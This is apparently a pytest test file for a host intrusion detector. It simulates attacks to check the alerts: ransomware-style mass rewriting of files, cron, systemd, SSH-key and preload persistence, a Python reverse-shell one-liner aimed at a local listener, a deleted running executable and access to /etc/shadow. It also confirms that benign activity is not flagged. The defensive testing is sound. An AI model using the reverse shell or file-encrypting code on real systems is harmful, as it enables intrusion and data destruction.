"""The detector on a folder that stands for a host: what it tells, how soon, and what it leaves alone."""

import gzip
import os
import shutil
import socket
import subprocess
import sys
import threading
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest

from soc_agent.detect.detector import Detector
from soc_agent.detect.places import Places
from soc_agent.detect.waiting import Waiting

SOON_S = 2.5


class Host:
    """A root with a home, and a detector that watches it in a thread of its own."""

    def __init__(self, root: Path) -> None:
        self.root, self.home = root, root / "home" / "ada"
        for name in ("etc/cron.d", "etc/systemd/system", "tmp", "var/lib/dpkg/info", "home/ada/documents"):
            (root / name).mkdir(parents=True)
        self.waiting = Waiting(root / "journal.sqlite")
        self.detector = Detector(self.waiting, Places(root, homes=(str(self.home),)))
        self.detector.look()
        self._thread = threading.Thread(target=self.detector.run)
        self._thread.start()

    def stop(self) -> None:
        self.detector.stop()
        self._thread.join()
        self.waiting.close()

    def told(self, *rules: str) -> list[dict[str, Any]]:
        found = self.waiting.first(500)
        return [one for one in found if one["rule"]["id"] in rules] if rules else found

    def alert(self, rule: str, within: float = SOON_S, about: object = "") -> dict[str, Any]:
        deadline = time.monotonic() + within
        while time.monotonic() < deadline:
            if found := [one for one in self.told(rule) if str(about) in str(one)]:
                return found[0]
            time.sleep(0.02)
        raise AssertionError(f"{rule} was not told; {[one['rule']['id'] for one in self.told()]}")

    def of_here(self) -> list[str]:
        """What was told about this host's own files, whatever else happens on the machine."""
        return [one["rule"]["id"] for one in self.told() if str(self.root) in str(one)]

    def settled(self) -> list[str]:
        """The same, once everything that happened was looked at: a file that is told always comes last."""
        (self.root / "etc/cron.d" / "last").write_text("# told last\n")
        self.alert("soc-agent.new-cron", within=8)
        return [one for one in self.of_here() if one != "soc-agent.new-cron"]


@pytest.fixture
def host(tmp_path: Path) -> Iterator[Host]:
    made = Host(tmp_path / "host")
    yield made
    made.stop()


def documents(host: Host, count: int = 30) -> list[Path]:
    """There before the detector looked, as those of a person are."""
    found = [host.home / "documents" / f"letter-{number}.txt" for number in range(count)]
    for path in found:
        path.write_text("Dear Sir or Madam, \n" * 100)
    return found


def run(code: str, *words: object) -> subprocess.CompletedProcess[bytes]:
    return subprocess.run([sys.executable, "-c", code, *map(str, words)], check=True, timeout=60)


REWRITE = """
import os, sys, time
for path in sys.argv[1:]:
    with open(path, "wb") as file: file.write(os.urandom(2000))
    os.rename(path, path + ".locked"); time.sleep(0.02)
time.sleep(2)
"""
COPY_AND_REMOVE = """
import os, sys
for path in sys.argv[1:]:
    with open(path + ".enc", "wb") as file: file.write(os.urandom(2000))
    os.unlink(path)
"""
OVER_A_DRAFT = """
import os, sys
for path in sys.argv[1:]:
    with open(path + "~", "wb") as file: file.write(os.urandom(2000))
    os.rename(path + "~", path)
"""


@pytest.mark.parametrize("code", [REWRITE, COPY_AND_REMOVE, OVER_A_DRAFT], ids=["in place", "copies", "drafts"])
def test_mass_rewriting_is_told_once_and_soon(host: Host, code: str) -> None:
    paths = documents(host)
    with subprocess.Popen([sys.executable, "-c", code, *map(str, paths)]) as writer:
        found = host.alert("soc-agent.mass-rewrite", within=6)
        assert (found["rule"]["severity"], found["rule"]["attack"]) == ("high", ["T1486"])
        if code is REWRITE and host.detector.writers:
            assert found["process"]["pid"] == writer.pid
    assert len(host.told("soc-agent.mass-rewrite")) == 1


@pytest.mark.parametrize(("name", "rule"), [
    ("etc/cron.d/job", "new-cron"), ("etc/systemd/system/job.service", "new-unit"),
    ("etc/systemd/system/multi-user.target.wants/job.service", "new-unit"),
    ("home/ada/.bashrc", "changed-shell-start"), ("home/ada/.ssh/authorized_keys", "new-ssh-key"),
    ("home/ada/.config/autostart/job.desktop", "new-autostart"), ("etc/ld.so.preload", "preload"),
])  # fmt: skip
def test_what_starts_by_itself_is_told(host: Host, name: str, rule: str) -> None:
    path = host.root / name
    path.parent.mkdir(parents=True, exist_ok=True)
    began = time.monotonic()
    path.write_text("* * * * * root /bin/true\n")
    found = host.alert(f"soc-agent.{rule}")
    assert time.monotonic() - began < 20
    assert found["kind"] == "persistence"
    assert found["file"]["path"] == str(path)
    assert len(found["file"]["sha256"]) == 64


def test_the_process_that_left_it_is_named(host: Host) -> None:
    path = host.root / "etc/cron.d/job"
    code = "import sys, time; open(sys.argv[1], 'w').write('x' * 400); time.sleep(3)"
    with subprocess.Popen([sys.executable, "-c", code, path]) as writer:
        found = host.alert("soc-agent.new-cron")
        if host.detector.writers is None:
            pytest.skip("without real root it is found out, and among many processes that is no certainty")
        assert found["process"]["pid"] == writer.pid
        assert found["process"]["parent"]["pid"] == os.getpid()


@pytest.fixture
def listener() -> Iterator[socket.socket]:
    """On an address of this machine that is not the loopback's."""
    found = address_of_this_machine()
    with socket.socket() as opened:
        opened.bind((found, 0))
        opened.listen()
        yield opened


def address_of_this_machine() -> str:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as asked:
        try:
            asked.connect(("192.0.2.1", 9))
        except OSError:
            pytest.skip("this machine has no address beside the loopback's")
        return str(asked.getsockname()[0])


def test_a_shell_on_a_connection_is_told(host: Host, listener: socket.socket) -> None:
    code = ("import os, socket, sys; s = socket.create_connection((sys.argv[1], int(sys.argv[2]))); "
            "[os.dup2(s.fileno(), n) for n in (0, 1, 2)]; os.execv('/bin/sh', ['sh'])")  # fmt: skip
    address, port = listener.getsockname()
    with subprocess.Popen([sys.executable, "-c", code, address, str(port)]) as shell:
        line, _ = listener.accept()
        found = host.alert("soc-agent.network-shell", about=shell.pid)
        line.close()
        shell.wait(10)
    assert found["process"]["pid"] == shell.pid
    assert found["rule"]["severity"] == "high"


def test_a_program_of_a_scratch_folder_that_connects_is_told(host: Host, listener: socket.socket) -> None:
    address, port = listener.getsockname()
    script = Path("/tmp", f"soc-test-{os.getpid()}.py")
    script.write_text(f"import socket, time\ns = socket.create_connection(('{address}', {port}))\ntime.sleep(5)\n")
    try:
        with subprocess.Popen([sys.executable, str(script)]) as program:
            line, _ = listener.accept()
            found = host.alert("soc-agent.temporary-program-connects", about=script)
            line.close()
            program.kill()
    finally:
        script.unlink()
    assert found["connection"]["remote_port"] == port
    assert found["file"]["path"] == str(script)


def test_a_program_without_its_file_is_told(host: Host) -> None:
    path = Path("/tmp", f"soc-test-{os.getpid()}")
    path.write_bytes(Path("/bin/sleep").read_bytes() + os.urandom(16))
    path.chmod(0o755)
    with subprocess.Popen([path, "30"]) as program:
        path.unlink()
        found = host.alert("soc-agent.deleted-executable", within=8, about=path)
        program.kill()
    assert found["process"]["pid"] == program.pid


def test_whoever_names_the_password_file_is_told(host: Host) -> None:
    with subprocess.Popen([sys.executable, "-c", "import time; time.sleep(3)", "/etc/shadow"]) as reader:
        assert host.alert("soc-agent.password-file", about=reader.pid)["process"]["user"]
        reader.kill()


# ---- what is no attack ----


def test_an_upgrade_of_packages_is_not_told(host: Host, monkeypatch: pytest.MonkeyPatch) -> None:
    """The files are those of a package whose list comes a moment later, as `dpkg` writes it."""
    unit, cron = host.root / "etc/systemd/system/tool.service", host.root / "etc/cron.d/tool"
    monkeypatch.setattr(host.detector._packages, "busy", lambda _now: True)
    for path in (unit, cron):
        path.with_suffix(".dpkg-new").write_text("[Unit]\n")
        path.with_suffix(".dpkg-new").rename(path)
    (host.root / "var/lib/dpkg/info/tool.list").write_text("/.\n/etc/systemd/system/tool.service\n/etc/cron.d/tool\n")
    assert host.settled() == []


def test_a_compiler_is_not_told(host: Host) -> None:
    folder = host.home / "project"
    folder.mkdir()
    for _round in range(2):
        for number in range(60):
            (folder / f"part-{number}.o").write_bytes(b"\x7fELF" + os.urandom(200) + bytes(3000) + b"text" * 200)
    assert host.settled() == []


def test_a_backup_is_not_told(host: Host) -> None:
    target = host.home / "backup"
    target.mkdir()
    for path in documents(host, 60):
        shutil.copy2(path, target)
        with gzip.open(target / f"{path.name}.gz", "wb") as packed:
            packed.write(path.read_bytes() + os.urandom(3000))
        (target / f"{path.name}.sealed").write_bytes(os.urandom(3000))
    assert host.settled() == []


def test_packing_many_files_and_removing_them_is_not_told(host: Host) -> None:
    for path in documents(host, 40):
        Path(f"{path}.gz").write_bytes(gzip.compress(os.urandom(3000)))
        path.unlink()
    assert host.settled() == []


def test_a_text_editor_is_not_told(host: Host) -> None:
    for path in documents(host, 40):
        draft = path.with_name(f".{path.name}.swp")
        draft.write_text("Dear Madam or Sir, \n" * 120)
        draft.rename(path)
    assert host.settled() == []


def test_the_same_is_told_once(host: Host) -> None:
    path = host.root / "etc/cron.d/job"
    for number in range(5):
        path.write_text(f"# {number}\n")
        time.sleep(0.15)
    host.alert("soc-agent.new-cron")
    assert len(host.told("soc-agent.new-cron")) == 1
    assert host.detector.telling.repeated >= 1


def until(reached: Callable[[], bool], within: float = 5) -> bool:
    deadline = time.monotonic() + within
    while not reached() and time.monotonic() < deadline:
        time.sleep(0.02)
    return reached()


def test_too_many_are_held_back_and_counted(host: Host) -> None:
    for number in range(100):
        (host.root / f"etc/cron.d/job-{number}").write_text("# x\n")
    assert until(lambda: host.detector.telling.held_back >= 40)
    assert len(host.told()) <= 60
    assert "were too many" in host.detector.health()
